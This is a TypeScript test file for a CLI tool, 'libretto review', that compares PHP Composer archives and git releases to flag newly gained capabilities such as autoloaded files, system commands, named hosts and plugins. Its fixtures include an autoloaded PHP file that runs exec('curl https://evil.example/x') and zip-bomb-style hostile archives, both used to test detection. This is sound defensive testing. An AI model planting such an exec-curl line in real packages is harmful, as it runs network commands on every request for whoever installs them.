// Tests `libretto review --archives` and `--git` on real archives and repositories, also hostile ones.

import { writeFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createRepository, type RepositoryStep } from '../util/git-repository.ts';
import { zipOf, type EntrySpec } from '../util/hostile-zip.ts';
import { temporaryTree, type TemporaryTree } from '../util/package-tree.ts';
import { runCli, type CliOutcome } from '../util/run-cli.ts';
import { describeInSeries } from '../util/series.ts';

let tree: TemporaryTree;

const composer = { name: 'acme/tool', autoload: { 'psr-4': { 'Acme\\': 'src/' } } };
const zip = (name: string, entries: readonly EntrySpec[], json: object = composer): void =>
  writeFileSync(tree.path(name), zipOf([{ name: 'tool/composer.json', data: JSON.stringify(json) }, ...entries]));

beforeAll(() => {
  tree = temporaryTree();
  zip('old.zip', [{ name: 'tool/src/A.php', data: '<?php class A {}' }]);
});
afterAll(() => tree.remove());

const review = (...words: readonly string[]): Promise<CliOutcome> => runCli(['review', ...words], { cwd: tree.root });

describe('libretto review --archives', () => {
  it('shows what the new archive can do, in text and as JSON', async () => {
    zip(
      'new.zip',
      [
        { name: 'tool/src/A.php', data: '<?php class A {}' },
        { name: 'tool/src/boot.php', data: "<?php\n\nexec('curl https://evil.example/x');" },
        { name: 'tool/tests/a.phar', data: 'x' },
      ],
      { ...composer, autoload: { ...composer.autoload, files: ['src/boot.php'] } },
    );
    const { exitCode, stdout } = await review('--archives', 'old.zip', 'new.zip');
    expect({ exitCode, lines: stdout.trimEnd().split('\n') }).toEqual({
      exitCode: 0,
      lines: [
        'By composer.json:',
        '  it runs src/boot.php in every request',
        'By files and code that Composer loads:',
        '  it runs commands of the system (exec): src/boot.php:3',
        '  it names a host (evil.example): src/boot.php:3',
        'By tests, documentation and other files:',
        '  it contains a program that is no PHP source (phar): tests/a.phar',
      ],
    });
    const json = JSON.parse((await review('--archives', 'old.zip', 'new.zip', '--json')).stdout) as object;
    expect(json).toMatchObject({
      ok: true,
      rules: 2,
      gained: [{ kind: 'autoload-file', detail: 'src/boot.php' }],
      findings: [
        { kind: 'command', detail: 'exec', file: 'src/boot.php', line: 3, loaded: true },
        { kind: 'host', detail: 'evil.example' },
        { kind: 'program', file: 'tests/a.phar', line: null, loaded: false },
      ],
      left: 0,
    });
    expect((await review('--archives', 'old.zip', 'old.zip')).stdout).toContain('can do nothing that the old one');
  });

  it('reads a hostile archive within its limits, and says what it left out', async () => {
    zip('hostile.zip', [
      { name: 'tool/src/bomb.php', data: Buffer.alloc(20 * 1024 * 1024) },
      { name: 'tool/src/lies.php', data: 'x'.repeat(5000), both: { size: 10 }, central: { size: 10 } },
      { name: 'tool/src/line.php', data: `<?php $a = '${'A'.repeat(3_000_000)}';` },
      { name: `tool/src/${'d/'.repeat(100)}deep.php`, data: '<?php exec($a);' },
    ]);
    const { exitCode, stdout } = await review('--archives', 'old.zip', 'hostile.zip');
    expect(exitCode).toBe(0);
    for (const line of ['(more than 8 MiB): src/bomb.php', '(PHP of more than 1 MiB): src/line.php'])
      expect(stdout).toContain(line);
    expect(stdout).toContain('(damaged or encrypted): src/lies.php');
    expect(stdout).toContain('(exec): src/d/');
  });

  it('refuses what is no archive, and wrong words', async () => {
    tree.write({ 'text.zip': 'no ZIP' });
    const broken = await review('--archives', 'old.zip', 'text.zip');
    expect([broken.exitCode, broken.stdout]).toEqual([1, expect.stringContaining('damaged')]);
    const missing = await review('--archives', 'old.zip', 'none.zip');
    expect([missing.exitCode, missing.stderr]).toEqual([2, expect.stringContaining('There is no file')]);
    expect((await review('--archives', 'old.zip')).stderr).toContain('compares two archives');
    expect((await review('old.zip')).stderr).toContain('Name one of --lock, --archives and --git');
    const gate = await review('--archives', 'old.zip', 'old.zip', '--fail-on', 'remarkable');
    expect(gate).toMatchObject({ exitCode: 2, stderr: expect.stringContaining('--fail-on goes with --lock only') });
  });
});

describeInSeries('libretto review --git', () => {
  it('counts the releases that brought a decisive capability, each once', async () => {
    const json = (fields: object): string => JSON.stringify({ name: 'acme/tool', ...fields });
    const boot = { autoload: { files: ['boot.php'] } };
    const plugin = { ...boot, type: 'composer-plugin' };
    const releases = { '1.0.0': {}, '1.0.1': boot, '1.0.2': boot, '1.1.0': boot, 'v2.0.0': plugin, nonsense: plugin };
    createRepository(
      tree.path('tool'),
      Object.entries(releases).flatMap(([tag, fields]): RepositoryStep[] => [
        { commit: 'main', files: { 'composer.json': json(fields) } },
        { tag, at: 'main', annotated: tag === '1.1.0' },
      ]),
    );
    const { exitCode, stdout } = await review('--git', 'tool');
    expect({ exitCode, lines: stdout.trimEnd().split('\n') }).toEqual({
      exitCode: 0,
      lines: [
        'tool 1.0.1: it runs boot.php in every request',
        'tool v2.0.0: it runs code while Composer works (composer-plugin)',
        '1 repository:',
        'Release  Number  Held  Share',
        'patch    2       1     50.00 %',
        'minor    1       0     0.00 %',
        'major    1       1     100.00 %',
      ],
    });
    expect(JSON.parse((await review('--git', 'tool', '--json')).stdout)).toMatchObject({
      repositories: 1,
      held: [{ version: '1.0.1', level: 'patch' }, { gained: [{ kind: 'plugin' }] }],
    });
    expect((await review('--git', '.')).stderr).toContain('is no git repository');
  });
});
